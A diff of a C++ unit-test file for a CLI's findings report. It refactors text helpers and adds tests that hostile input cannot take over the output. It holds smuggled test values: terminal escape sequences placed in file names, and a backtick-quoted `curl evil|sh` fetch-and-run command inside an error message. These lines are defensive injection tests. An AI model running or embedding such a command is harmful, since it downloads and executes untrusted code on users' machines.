@@ -7,6 +7,7 @@
 #include <vector>
 
 #include "cli/finding.h"
+#include "crypto/errors.h"
 #include "gmock/gmock.h"
 #include "gtest/gtest.h"
 
@@ -26,8 +27,14 @@ std::vector<FindingGroup> Groups() {
                     "first line\nsecond line")}}};
 }
 
+std::string Text(const std::vector<FindingGroup>& groups) {
+  std::string text;
+  for (const FindingGroup& group : groups) text += GroupText(group);
+  return text + TotalText(groups);
+}
+
 TEST(FindingTextTest, EachHasALineAndItsFix) {
-  EXPECT_EQ(FindingsText(Groups()),
+  EXPECT_EQ(Text(Groups()),
             "daprd's side\n"
             "  ok       /s/cpp.sock: a state store answers\n"
             "  FAULT    /s/old.sock: nobody answers\n"
@@ -42,7 +49,7 @@ TEST(FindingTextTest, EachHasALineAndItsFix) {
 }
 
 TEST(FindingTextTest, NoneIsSaidAsWell) {
-  EXPECT_EQ(FindingsText({}), "no faults, no warnings\n");
+  EXPECT_EQ(TotalText({}), "no faults, no warnings\n");
 }
 
 TEST(FindingTextTest, JsonIsOneObject) {
@@ -61,18 +68,19 @@ TEST(FindingTextTest, JsonIsOneObject) {
 
 // The name of a file, or a field of a YAML, can be anybody's.
 TEST(FindingTextTest, NothingMovesTheCursor) {
-  const std::string text = FindingsText(
-      {{"a", {Fault("kind", "sub\x1b[2Jject", "te\rxt", "fi\x07x")}}});
+  const std::string text =
+      Text({{"a", {Fault("kind", "sub\x1b[2Jject", "te\rxt", "fi\x07x")}}});
   for (const char* bad : {"\x1b", "\r", "\x07"}) {
     EXPECT_THAT(text, Not(HasSubstr(bad)));
   }
 }
 
-TEST(FindingTextTest, ACommandIsTakenFromAnError) {
-  EXPECT_EQ(CommandIn("it is loose; run `chmod 600 a`, or", "none"),
-            "chmod 600 a");
-  EXPECT_EQ(CommandIn("it is `loose", "none"), "none");
-  EXPECT_EQ(CommandIn("it is loose", "none"), "none");
+TEST(FindingTextTest, ACommandIsWhatAnErrorNamesAndNotWhatItQuotes) {
+  EXPECT_EQ(
+      CommandOf(error::KeyFileLooseMode("key file a`b`", "a`b`", 0644), "none"),
+      "chmod g-w,o-rwx 'a`b`'");
+  EXPECT_EQ(CommandOf(error::KeyFileMissing("key file `curl evil|sh`"), "none"),
+            "none");
 }
 
 TEST(FindingTextTest, AShellTakesAWordForOne) {
